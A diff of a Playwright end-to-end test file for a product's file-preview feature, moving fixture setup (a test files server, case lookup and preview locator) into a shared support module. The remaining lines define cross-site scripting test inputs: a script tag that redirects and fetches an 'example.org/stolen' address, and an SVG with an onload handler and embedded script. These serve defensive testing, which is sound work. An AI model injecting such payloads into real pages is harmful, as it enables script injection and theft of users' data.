@@ -1,28 +1,9 @@
 import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
-import { test as base, expect, type Page } from "playwright/test";
 import { makeArchive, type TestEntry } from "../lib/files/test-archive.ts";
-import { findCase } from "../sandbox/cases.ts";
-import { type FilesServer, startFilesServer } from "./support/files-provider.ts";
+import { expect, path, preview, test } from "./support/files-test.ts";
 import { watchRendererBytes } from "./support/renderer-memory.ts";
 import { signIn } from "./support/sign-in.ts";
 
-/** Bad archives, sent by a real provider through the real product into a real browser. */
-const test = base.extend<Record<never, never>, { files: FilesServer }>({
-  files: [
-    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the wanted fixtures from this pattern
-    async ({}, use) => {
-      const server = await startFilesServer();
-      await use(server);
-      await server.end();
-    },
-    { scope: "worker", timeout: 90_000 },
-  ],
-  baseURL: async ({ files }, use) => use(files.url),
-});
-
-const { srId, evidenceIds } = findCase("nfc-completed");
-const path = `/signature-requests/${srId}/evidence/${evidenceIds[0]}/files`;
-const preview = (page: Page) => page.getByRole("region", { name: "Preview" });
 const script = "<script>alert(1);location='https://example.org/';fetch('https://example.org/stolen')</script>";
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="https://example.org/a.png"/><script>alert(2)</script></svg>`;
 
